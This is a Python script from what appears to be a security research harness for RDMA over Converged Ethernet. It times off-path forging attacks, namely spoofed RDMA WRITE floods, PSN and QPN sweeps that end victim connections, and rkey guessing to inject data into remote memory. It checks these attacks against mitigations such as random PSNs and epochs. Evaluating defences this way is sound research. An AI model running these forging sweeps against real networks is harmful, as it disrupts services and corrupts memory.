#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Off-path forging with all possible numbers: what such a sweep costs, and what the victim does meanwhile.

The device drops a wrong PSN silently, so an attacker can try all 2^24. A wrong rkey ends the connection."""
import time

import lab as rig
from lab import PSNS, after, uroce_counters

ARGUMENTS = rig.options(__doc__, {"--rate": {"type": int, "default": 500000, "help": "packets a second that the victim can take in"}})
LAB = rig.Lab(ARGUMENTS)
NAME = "sweep"
BAD_WRITE = ["--op", "write", "--rkey", "0xbadbad", "--va", "0", "--text", "x"]
RATE = 20000 if LAB.rxe else ARGUMENTS.rate
PASSES = 4
QPN_BITS = 14  # of uroce, in a process; rdma_rxe numbers in order
QPNS = 256 if LAB.rxe else 1 << QPN_BITS


def taken_in(server):
    """Packets that reached the server's device."""
    if LAB.rxe:
        with open("/sys/class/infiniband/rxe0/ports/1/hw_counters/rcvd_pkts", encoding="ascii") as file:
            return int(file.read())
    return uroce_counters(server)["rx_packets"]


def rates():
    """What the attacker can send, and what the victim's device can take in."""
    server, client, at, _ = LAB.talking_victims("--random-psn")
    count = 20000 if LAB.rxe else 1000000 if LAB.short else 8000000
    for what, words in (("another PSN", ["--qpn", at["qpn"], "--psn", f"{after(at['peer_psn'], 1000)}+{min(count, PSNS // 4)}"]),
                        ("another QPN", ["--qpn", at["qpn"] ^ 1, "--psn", f"0+{count}"])):
        before, began = taken_in(server), time.monotonic()
        sent = LAB.spoof(*BAD_WRITE, *words)
        time.sleep(0.3)
        taken = taken_in(server) - before
        elapsed = time.monotonic() - began - 0.3
        rate, intake = sent["packets"] / sent["seconds"] / 1e6, taken / max(elapsed, 0.001) / 1e6
        good = client_is_well(server, client)
        LAB.report("flood of forged packets", "off-path, spoofs", "addresses, QPN", "plain verbs", "random PSN",
                   f"writes to {what}: sent {rate:.2f} million/s, taken in {intake:.2f} million/s "
                   f"({100 * taken / sent['packets']:.0f} %). Does the connection end?", "failed", not good, **sent)
    LAB.clear()


def client_is_well(server, client):
    client.say("send 0 well")
    return server.event("message", 5, text="well") is not None


def blind(width, words, defence, expected, victims):
    """All PSNs of a window that has the right one, in order, until the connection ends."""
    server, at, ended = victims(words)
    first = 0 if width == PSNS else (at["expected"] // width) * width
    packets, seconds, hit, step = 0, 0.0, False, min(width, 1 << 19)
    for _ in range(PASSES if expected == "succeeded" else 1):
        for start in range(first, first + width, step):
            sent = LAB.spoof(*BAD_WRITE, "--qpn", at["qpn"], "--psn", f"{start}+{step}", "--rate", RATE)
            packets, seconds = packets + sent["packets"], seconds + sent["seconds"]
            hit = ended(0.05)
            if hit:
                break
        if hit or ended(1):
            hit = True
            break
    known = "QPN" if width == PSNS else f"QPN and {24 - width.bit_length() + 1} bits of the PSN"
    LAB.conclude(NAME, "off-path, spoofs", known, at["victim"], defence, f"bad RDMA WRITEs with {'all' if width == PSNS else width} PSNs at "
                 f"{RATE}/s, until the connection ends", expected, hit, packets=packets, seconds=seconds,
                 note=f"the right one was the {at['expected'] - first + 1:,}th")


def plain(words):
    server, client, at, _ = LAB.talking_victims(*words)
    at |= {"expected": after(at["peer_psn"]), "victim": "plain verbs"}
    return server, at, lambda wait: server.event("broken", wait) is not None


def securdma(words):
    server, sniffer, client, seen = LAB.observed(*words)
    sniffer.stop()

    def ended(_):
        answer = client.ask("send well", 10)
        return answer is None or not answer.endswith("well")

    return server, {"qpn": seen["qpn"], "expected": after(seen["psn"]), "victim": "securdma"}, ended


def qpn_range(words, defence, expected):
    """The attacker knows only the range of the device's QPNs: tries all of them, each with the few PSNs that a program that starts at 0 can
    have reached."""
    server, client, at, _ = LAB.talking_victims(*words)
    first = at["qpn"] & ~(QPNS - 1)
    packets, seconds, hit = 0, 0.0, False
    for _ in range(PASSES if expected == "succeeded" else 1):  # the victim may lose some
        sent = LAB.spoof(*BAD_WRITE, "--qpn", f"{first}+{QPNS}", "--psn", "0+4", "--rate", RATE)
        packets, seconds = packets + sent["packets"], seconds + sent["seconds"]
        hit = server.event("broken", 1) is not None
        if hit:
            break
    LAB.conclude("A2 kill the queue pair", "off-path, spoofs", f"the {QPNS:,} QPNs among which the right one is", "plain verbs", defence,
                 f"bad RDMA WRITEs to all of them, with the PSNs 0 to 3, at {RATE}/s", expected, hit, packets=packets, seconds=seconds,
                 note=f"the right one was the {at['qpn'] - first + 1:,}th")


def rkey_guesses(count):
    """The attacker knows all but the rkey. The victim connects again after each wrong guess, which has ended its connection."""
    server, client, at, _ = LAB.victims()
    killed, hit, packets, began = 0, False, 0, time.monotonic()
    for guess in range(count):
        sent = LAB.spoof("--op", "write", "--qpn", at["qpn"], "--psn", 0, "--rkey", (at["rkey"] + 0x10001 * (guess + 1)) & 0xffffffff, "--va", at["va"],
                         "--text", "FORGED!")
        packets += sent["packets"]
        killed += server.event("broken", 3) is not None
        hit = hit or server.do("region 0", "region")["text"].startswith("FORGED!")
        client.say("again")
        at = server.must("connected")
    LAB.conclude("A1 injection", "off-path, spoofs", "QPN, address, not the rkey", "plain verbs", "PSN 0; random rkey", f"RDMA WRITEs with {count} guessed "
                 "rkeys, the victim connecting again each time", "failed", hit or killed != count, packets=packets, seconds=time.monotonic() - began,
                 note=f"{killed} guesses ended as many connections")


rates()
if LAB.rxe:
    blind(1 << 12, ("--random-psn",), "random PSN", "succeeded", plain)
else:
    WIDTH = 1 << 16 if LAB.short else PSNS
    blind(WIDTH, ("--random-psn",), "random PSN", "succeeded", plain)
    blind(WIDTH, ("--epoch-psns", "0", "--recoveries", "0"), "random PSN; no epochs", "succeeded", securdma)
    blind(WIDTH, (), "epochs: new PSNs when the library notices a sweep, and after the kill", "failed", securdma)
qpn_range((), "none: PSN 0", "succeeded")
qpn_range(("--random-psn",), "random PSN", "failed")
rkey_guesses(20 if LAB.short else 500)
LAB.end()
